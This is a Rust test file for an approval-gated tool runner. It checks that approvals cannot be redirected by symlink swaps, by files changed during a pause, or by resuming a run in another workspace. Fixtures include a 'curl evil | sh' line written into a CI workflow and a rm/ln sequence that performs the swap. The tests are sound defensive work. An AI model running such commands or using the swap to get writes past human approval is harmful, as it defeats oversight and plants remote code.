//! Issue 30, break 7: an approval bound to a path, not to what it names. A
//! write of `docs/deploy.yml` paused; a later program replaced `docs/` with
//! a link to `ci/flows/`; the person's `--allow` then wrote
//! `ci/flows/deploy.yml` while `codemode approve` still listed
//! `docs/deploy.yml`. The same in one run: the program changes the link
//! while the approver is asked. Defence (docs/SECURITY.md, "A decision
//! binds to what the person saw"): the approval records the object the
//! path resolved to when it was asked (the journal's `pending` record
//! keeps it), and a call whose path resolves elsewhere when it runs is
//! refused, in the same run and on resume.

use std::path::Path;

use codemode::approval::CommandApprover;
use codemode::policy::{Rule, Rules};
use codemode::{Policy, Program, receipt::RunStatus};
use serde_json::Value;

use crate::cli::codemode;

/// The file the attack aims at: outside what the person was asked about.
const FLOW: &str = "ci/flows/deploy.yml";
const ORIGINAL: &str = "on: push\n";

/// A workspace with `docs/` and `ci/flows/deploy.yml`.
fn workspace() -> tempfile::TempDir {
    let ws = crate::common::workspace();
    std::fs::create_dir_all(ws.path().join("ci/flows")).unwrap();
    std::fs::write(ws.path().join(FLOW), ORIGINAL).unwrap();
    ws
}

/// The write the person is asked about; returns what it got.
const WRITE_DEPLOY: &str = "
try { await tools.write({path: 'docs/deploy.yml', content: 'on: anything\\nrun: curl evil | sh\\n'}); return 'written'; }
catch (e) { return e.kind + ': ' + e.message; }";

fn json_of(out: &std::process::Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!("stdout is JSON ({e}): {}\n{}", String::from_utf8_lossy(&out.stdout), stderr(out))
    })
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Pauses on the write (the pause approver), then a later program swaps
/// `docs/` for a link to `ci/flows/`; returns the run id.
fn paused_then_swapped(ws: &Path) -> String {
    let run_id = paused_receipt(ws, WRITE_DEPLOY)["run_id"].as_str().unwrap().to_owned();
    std::fs::write(ws.join("later.js"), "await tools.bash({command: 'rm -rf docs && ln -s ci/flows docs'});")
        .unwrap();
    let later = codemode(&["run", "later.js", "--posture", "full-access", "--json"], "", ws);
    assert_eq!(later.status.code(), Some(0), "{}", stderr(&later));
    assert!(ws.join("docs").is_symlink());
    run_id
}

/// What the resumed call got, checked: refused, saying where the path
/// resolves now and what was approved; the flow file untouched.
fn assert_refused(ws: &Path, resumed: &std::process::Output) {
    assert_eq!(resumed.status.code(), Some(0), "{}", stderr(resumed));
    let receipt = json_of(resumed);
    let value = receipt["value"].as_str().unwrap();
    assert!(
        value.starts_with("refused:")
            && value
                .contains("`docs/deploy.yml` now resolves to `ci/flows/deploy.yml`, not `docs/deploy.yml`"),
        "{value}"
    );
    assert_eq!(receipt["calls"][0]["decision"], "refused");
    assert_eq!(std::fs::read_to_string(ws.join(FLOW)).unwrap(), ORIGINAL, "nothing written through the link");
}

#[test]
fn an_allow_on_resume_does_not_follow_a_link_made_after_the_pause() {
    let ws = workspace();
    let run_id = paused_then_swapped(ws.path());
    let resumed = codemode(&["resume", &run_id, "--allow", "1", "--json"], "", ws.path());
    assert_refused(ws.path(), &resumed);
}

#[test]
fn a_persons_codemode_approve_does_not_follow_a_link_made_after_the_pause() {
    let ws = workspace();
    let run_id = paused_then_swapped(ws.path());
    let listed = codemode(&["approve", &run_id], "", ws.path());
    let listing = String::from_utf8_lossy(&listed.stdout);
    assert!(listing.contains("docs/deploy.yml"), "{listing}{}", stderr(&listed));
    let approved = codemode(&["approve", &run_id, "--allow", "1"], "", ws.path());
    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
    let resumed = codemode(&["resume", &run_id, "--json"], "", ws.path());
    assert_refused(ws.path(), &resumed);
}

/// In one run: the `cmd:` approver answers once the program has swapped
/// `docs/` for the link (two bash calls an allow rule lets run while the
/// write waits for its approval).
#[test]
fn an_allow_in_the_same_run_does_not_follow_a_link_made_while_it_was_asked() {
    let ws = workspace();
    let root = std::fs::canonicalize(ws.path()).unwrap();
    let approver = root.join("approve.sh");
    std::fs::write(
        &approver,
        format!(
            "#!/bin/sh\ni=0\nwhile [ ! -L '{}' ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done\n\
             echo '{{\"decision\": \"allow\"}}'\n",
            root.join("docs").display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&approver, std::fs::Permissions::from_mode(0o755)).unwrap();
    let allow = ["bash(mv docs old-docs)", "bash(ln -s ci/flows docs)"];
    let rules = Rules { allow: allow.iter().map(|r| Rule::parse(r).unwrap()).collect(), ..Rules::default() };
    let engine = crate::common::engine_builder()
        .workspace(&root)
        .policy(Policy { rules, ..Policy::default() })
        .approver(CommandApprover::new(approver.display().to_string(), Vec::<String>::new()))
        .build()
        .unwrap();
    let source = format!(
        "const write = (async () => {{ {WRITE_DEPLOY} }})();
         await tools.bash({{command: 'mv docs old-docs'}});
         await tools.bash({{command: 'ln -s ci/flows docs'}});
         return await write;"
    );
    let receipt = engine.execute_blocking(Program::new(source));
    assert_eq!(receipt.status, RunStatus::Completed, "{:?}", receipt.error);
    let value = receipt.value.as_str().unwrap();
    assert!(
        value.starts_with("refused:")
            && value
                .contains("`docs/deploy.yml` now resolves to `ci/flows/deploy.yml`, not `docs/deploy.yml`"),
        "{value}"
    );
    assert_eq!(std::fs::read_to_string(root.join(FLOW)).unwrap(), ORIGINAL);
}

/// The second review's break: `docs` a link to nowhere when the person is
/// asked, so nothing was bound, and a later program points it at
/// `ci/flows/`. A path that resolves to nothing is refused rather than
/// asked: no pause, nothing for a resume to allow.
#[test]
fn a_link_to_nowhere_is_refused_rather_than_asked() {
    let ws = workspace();
    let _ = std::fs::remove_dir_all(ws.path().join("docs"));
    std::os::unix::fs::symlink("ci/nowhere", ws.path().join("docs")).unwrap();
    std::fs::write(ws.path().join("prog.js"), WRITE_DEPLOY).unwrap();
    let run = codemode(&["run", "prog.js", "--approve", "pause", "--json"], "", ws.path());
    assert_eq!(run.status.code(), Some(0), "not paused: {}", stderr(&run));
    let receipt = json_of(&run);
    let value = receipt["value"].as_str().unwrap_or_default();
    assert!(value.starts_with("refused") && value.contains("resolves to nothing"), "{receipt}");
    assert_eq!(receipt["calls"][0]["decision"], "refused", "{receipt}");
    // The link named later changes nothing: there is no pending call.
    std::fs::remove_file(ws.path().join("docs")).unwrap();
    std::os::unix::fs::symlink("ci/flows", ws.path().join("docs")).unwrap();
    let run_id = receipt["run_id"].as_str().unwrap();
    let resumed = codemode(&["resume", run_id, "--allow", "1", "--json"], "", ws.path());
    assert_ne!(resumed.status.code(), Some(0), "{}", stderr(&resumed));
    assert_eq!(std::fs::read_to_string(ws.path().join(FLOW)).unwrap(), ORIGINAL);
}

/// A program that reads a file, then writes it changed, as a resume
/// replays it: the read comes back from the journal, with the bytes of
/// before the pause.
const READ_THEN_WRITE: &str = "
const before = await tools.read({path: 'notes.txt', format: 'text'});
try { await tools.write({path: 'notes.txt', content: before.content + 'added by the run\\n'}); return 'written'; }
catch (e) { return e.kind + ': ' + e.message; }";

/// Pauses READ_THEN_WRITE on its write; returns the run id.
fn paused_on_the_write(ws: &Path) -> String {
    std::fs::write(ws.join("notes.txt"), "first line\n").unwrap();
    paused_receipt(ws, READ_THEN_WRITE)["run_id"].as_str().unwrap().to_owned()
}

/// A decision binds to the file as the person saw it, too: a file changed
/// between the pause and the resume is not overwritten by a write the run
/// made from what it read before (the replayed read), which would lose
/// the change unseen. Unchanged, the same allow writes.
#[test]
fn an_allow_on_resume_does_not_overwrite_a_file_changed_since_the_pause() {
    let ws = crate::common::workspace();
    let ws = ws.path();
    let run_id = paused_on_the_write(ws);
    std::fs::write(ws.join("notes.txt"), "first line\nmine, since the pause\n").unwrap();
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--json"], "", ws);
    assert_eq!(resumed.status.code(), Some(0), "{}", stderr(&resumed));
    let receipt = json_of(&resumed);
    let value = receipt["value"].as_str().unwrap();
    assert!(
        value.starts_with("refused:") && value.contains("`notes.txt` was changed since the run paused"),
        "{value}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("notes.txt")).unwrap(),
        "first line\nmine, since the pause\n",
        "the change made in between is kept"
    );

    // Nor when the resume gates the call again instead of deciding it
    // (an approver that allows it, or one that would pause it again and
    // record the changed file as if it were what the run saw).
    for approve in ["allow", "pause"] {
        let run_id = paused_on_the_write(ws);
        std::fs::write(ws.join("notes.txt"), "first line\nmine\n").unwrap();
        let resumed = codemode(&["resume", &run_id, "--approve", approve, "--json"], "", ws);
        let receipt = json_of(&resumed);
        let value = receipt["value"].as_str().unwrap_or_default();
        assert!(value.contains("`notes.txt` was changed since the run paused"), "{approve}: {receipt}");
        assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "first line\nmine\n", "{approve}");
    }

    // Through `codemode approve` as well, and for a file removed since;
    // its listing says so before the person decides.
    let run_id = paused_on_the_write(ws);
    std::fs::remove_file(ws.join("notes.txt")).unwrap();
    let listed = codemode(&["approve", &run_id], "", ws);
    let listing = String::from_utf8_lossy(&listed.stdout);
    assert!(listing.contains("note: an allow will be refused: `notes.txt` was removed since"), "{listing}");
    assert!(listing.contains(&format!("instead: deny it (codemode approve {run_id} --deny 2)")), "{listing}");
    let listed = json_of(&codemode(&["approve", &run_id, "--json"], "", ws));
    let why = listed["pending"][0]["changed_since_pause"].as_str().unwrap_or_default();
    assert!(why.contains("`notes.txt` was removed since"), "{listed}");
    assert_eq!(listed["files_changed_since_pause"], serde_json::json!(["notes.txt"]), "{listed}");
    let approved = codemode(&["approve", &run_id, "--allow", "2"], "", ws);
    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
    let said = String::from_utf8_lossy(&approved.stdout);
    assert!(said.contains("note: the resume will refuse call 2 all the same"), "{said}");
    let resumed = codemode(&["resume", &run_id, "--json"], "", ws);
    let value = json_of(&resumed)["value"].as_str().unwrap().to_owned();
    assert!(value.contains("`notes.txt` was removed since the run paused"), "{value}");
    assert!(!ws.join("notes.txt").exists(), "not made again from the old bytes");

    // Unchanged: the allow writes.
    let run_id = paused_on_the_write(ws);
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--json"], "", ws);
    assert_eq!(json_of(&resumed)["value"], "written", "{}", stderr(&resumed));
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "first line\nadded by the run\n");
}

/// The comparison is with the file when the resume starts: two paused
/// edits of one file, both allowed, both apply (the first one's change is
/// the run's own, not one made since the pause).
#[test]
fn two_allowed_edits_of_one_file_both_apply_on_resume() {
    let ws = crate::common::workspace();
    let ws = ws.path();
    std::fs::write(ws.join("notes.txt"), "first line\n").unwrap();
    let program = "await Promise.all([
        tools.edit({path: 'notes.txt', edits: [{old: 'first', new: '1st'}]}),
        tools.edit({path: 'notes.txt', edits: [{old: 'line', new: 'LINE'}]})]);
      return 'edited';";
    let receipt = paused_receipt(ws, program);
    assert_eq!(receipt["pending"].as_array().map(Vec::len), Some(2), "{receipt}");
    let run_id = receipt["run_id"].as_str().unwrap();
    let resumed = codemode(&["resume", run_id, "--allow", "1,2", "--json"], "", ws);
    assert_eq!(json_of(&resumed)["value"], "edited", "{}", stderr(&resumed));
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "1st LINE\n");
}

/// A file the run read before its pause and someone changed while it was
/// paused: a later write of it (not the paused call) would be made from
/// the replayed read and lose the change. The pause records the files the
/// run named; the resume refuses a change to one changed since, and lets
/// the same program write when nothing changed.
#[test]
fn a_resumed_run_does_not_overwrite_a_file_it_read_before_the_pause_and_someone_changed() {
    let ws = crate::common::workspace();
    let ws = ws.path();
    let paused = |ws: &Path| {
        std::fs::write(ws.join("notes.txt"), "first line\n").unwrap();
        paused_on_bash(ws, &read_then_bash_then_write("notes.txt", "added"))
    };
    let run_id = paused(ws);
    std::fs::write(ws.join("notes.txt"), "first line\nmine\n").unwrap();
    // The person is told before deciding the bash call.
    let listed = codemode(&["approve", &run_id], "", ws);
    let listing = String::from_utf8_lossy(&listed.stdout);
    assert!(
        listing.contains("changed since the pause, and named by the run before it: notes.txt"),
        "{listing}"
    );
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--approve", "allow", "--json"], "", ws);
    let receipt = json_of(&resumed);
    let value = receipt["value"].as_str().unwrap_or_default();
    assert!(
        value.starts_with("refused:") && value.contains("`notes.txt` was changed since the run paused"),
        "{receipt}"
    );
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "first line\nmine\n");

    let run_id = paused(ws);
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--approve", "allow", "--json"], "", ws);
    assert_eq!(json_of(&resumed)["value"], "written", "{}", stderr(&resumed));
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "first line\nadded\n");
}

/// The review's spellings: a file named through a link the person (or a
/// program) points elsewhere while the run is paused is compared under
/// the spelling the run used too, so a write through it is refused; and a
/// file the resumed run reads again live may be written from that read.
#[test]
fn a_changed_file_is_refused_under_either_spelling_and_a_read_made_now_lifts_it() {
    let ws = crate::common::workspace();
    let ws = ws.path();
    for (dir, text) in [("real1", "one\n"), ("real2", "two\n")] {
        std::fs::create_dir_all(ws.join(dir)).unwrap();
        std::fs::write(ws.join(dir).join("config"), text).unwrap();
    }
    std::os::unix::fs::symlink("real1", ws.join("cur")).unwrap();
    let run_id = paused_on_bash(ws, &read_then_bash_then_write("cur/config", "more"));
    std::fs::remove_file(ws.join("cur")).unwrap();
    std::os::unix::fs::symlink("real2", ws.join("cur")).unwrap();
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--approve", "allow", "--json"], "", ws);
    let value = json_of(&resumed)["value"].as_str().unwrap_or_default().to_owned();
    assert!(value.contains("`cur/config` was changed since the run paused"), "{value}");
    assert_eq!(std::fs::read_to_string(ws.join("real2/config")).unwrap(), "two\n");

    let program = "
        await tools.read({path: 'notes.txt', format: 'text'});
        await tools.bash({command: 'true'});
        const now = await tools.read({path: 'notes.txt', format: 'text'});
        await tools.write({path: 'notes.txt', content: now.content + 'added\\n'});
        return 'written';";
    std::fs::write(ws.join("notes.txt"), "first\n").unwrap();
    let run_id = paused_on_bash(ws, program);
    std::fs::write(ws.join("notes.txt"), "first\nmine\n").unwrap();
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--approve", "allow", "--json"], "", ws);
    assert_eq!(json_of(&resumed)["value"], "written", "{}", stderr(&resumed));
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "first\nmine\nadded\n");

    // A grep of it is no read of it: the write from the old read is
    // still refused.
    std::fs::write(ws.join("notes.txt"), "first\n").unwrap();
    let program = read_then_bash_then_write("notes.txt", "added").replace(
        "await tools.bash({command: 'true'});",
        "await tools.bash({command: 'true'}); await tools.grep_files({pattern: 'first', path: 'notes.txt'});",
    );
    let run_id = paused_on_bash(ws, &program);
    std::fs::write(ws.join("notes.txt"), "first\nmine\n").unwrap();
    let resumed = codemode(&["resume", &run_id, "--allow", "2", "--approve", "allow", "--json"], "", ws);
    let value = json_of(&resumed)["value"].as_str().unwrap_or_default().to_owned();
    assert!(value.contains("`notes.txt` was changed since the run paused"), "{value}");
    assert_eq!(std::fs::read_to_string(ws.join("notes.txt")).unwrap(), "first\nmine\n");
}

/// A program that reads `path`, makes a bash call (which pauses), then
/// writes `path` from what it read with the line `added` appended, and
/// returns `written` or the error it caught.
fn read_then_bash_then_write(path: &str, added: &str) -> String {
    format!(
        "const before = await tools.read({{path: '{path}', format: 'text'}});
         await tools.bash({{command: 'true'}});
         try {{ await tools.write({{path: '{path}', content: before.content + '{added}\\n'}}); return 'written'; }}
         catch (e) {{ return e.kind + ': ' + e.message; }}"
    )
}

/// Runs `program` in `ws` with the pause approver until it pauses on its
/// bash call; returns the run id.
fn paused_on_bash(ws: &Path, program: &str) -> String {
    let receipt = paused_receipt(ws, program);
    assert_eq!(receipt["pending"][0]["tool"], "bash", "{receipt}");
    receipt["run_id"].as_str().unwrap().to_owned()
}

/// Runs `program` (as `prog.js`) in `ws` with the pause approver, checks
/// it paused, and returns its receipt.
fn paused_receipt(ws: &Path, program: &str) -> Value {
    std::fs::write(ws.join("prog.js"), program).unwrap();
    let run = codemode(&["run", "prog.js", "--approve", "pause", "--json"], "", ws);
    assert_eq!(run.status.code(), Some(4), "{}", stderr(&run));
    json_of(&run)
}

/// Resumed quietly (`-q`) into another pause, a call refused on the way
/// (here the write of a file changed while the run was paused) is still
/// counted on the one line `-q` prints.
#[test]
fn a_quiet_resume_that_pauses_again_counts_the_calls_refused_on_the_way() {
    let ws = crate::common::workspace();
    let ws = ws.path();
    std::fs::write(ws.join("notes.txt"), "first\n").unwrap();
    let program = "const before = await tools.read({path: 'notes.txt', format: 'text'});
        await tools.bash({command: 'true'});
        try { await tools.write({path: 'notes.txt', content: before.content + 'added'}); } catch (e) {}
        await tools.write({path: 'other.txt', content: 'x'});
        return 'end';";
    let run_id = paused_on_bash(ws, program);
    std::fs::write(ws.join("notes.txt"), "first\nmine\n").unwrap();
    let quiet = codemode(&["-q", "resume", &run_id, "--allow", "2"], "", ws);
    assert_eq!(quiet.status.code(), Some(4), "{}", stderr(&quiet));
    assert!(
        stderr(&quiet).contains("waits for a decision on call 4 (1 call(s) refused on the way"),
        "{}",
        stderr(&quiet)
    );
}

/// A shared journal store (a folder outside the workspaces, or
/// PostgreSQL) holds several workspaces' runs. A write paused in workspace
/// a, allowed by `codemode resume` run in workspace b, used to write b's
/// file: the person decided on a's, and the run's pre-images were then
/// split between the two, so no rollback could undo it. The defence:
/// a resume refuses a run whose journal names another workspace
/// (`RunOptions::any_workspace` is for batch workers alone), and the run
/// stays paused for a resume where it was made.
#[test]
fn a_run_paused_in_another_workspace_is_not_resumed_here() {
    let (a, b) = (crate::common::workspace(), crate::common::workspace());
    let (a, b) = (a.path(), b.path());
    let journals = tempfile::tempdir().unwrap();
    let journal = journals.path().to_str().unwrap();
    for ws in [a, b] {
        std::fs::write(ws.join("data.txt"), "own\n").unwrap();
    }
    let program = "await tools.read({path: 'data.txt'});\n\
                   await tools.write({path: 'data.txt', content: 'the run\\'s\\n'});";
    std::fs::write(a.join("prog.js"), program).unwrap();
    let out = codemode(&["run", "prog.js", "--approve", "pause", "--journal", journal, "--json"], "", a);
    assert_eq!(out.status.code(), Some(4), "{}", stderr(&out));
    let id = json_of(&out)["run_id"].as_str().unwrap().to_owned();
    let here = codemode(&["resume", &id, "--allow", "2", "--journal", journal], "", b);
    let said = stderr(&here);
    assert_eq!(std::fs::read_to_string(b.join("data.txt")).unwrap(), "own\n", "b's file written: {said}");
    assert_ne!(here.status.code(), Some(0), "{said}");
    assert!(said.contains("was made in workspace") && said.contains("resume it there"), "{said}");
    let there = codemode(&["resume", &id, "--allow", "2", "--journal", journal], "", a);
    assert_eq!(there.status.code(), Some(0), "{}", stderr(&there));
    assert_eq!(std::fs::read_to_string(a.join("data.txt")).unwrap(), "the run's\n");
}
